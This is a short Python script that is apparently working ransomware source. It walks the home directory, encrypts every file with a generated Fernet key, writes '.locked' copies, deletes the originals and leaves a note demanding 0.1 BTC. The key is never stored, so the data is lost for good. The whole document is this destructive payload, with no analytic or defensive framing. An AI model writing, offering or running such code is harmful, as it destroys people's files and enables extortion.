import os
from cryptography.fernet import Fernet

cipher = Fernet(Fernet.generate_key())
for root, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(root, name)
        data = open(path, "rb").read()
        open(path + ".locked", "wb").write(cipher.encrypt(data))
        os.remove(path)
open("README_RESTORE.txt", "w").write("Your files have been encrypted. Pay 0.1 BTC for the decryption key.")
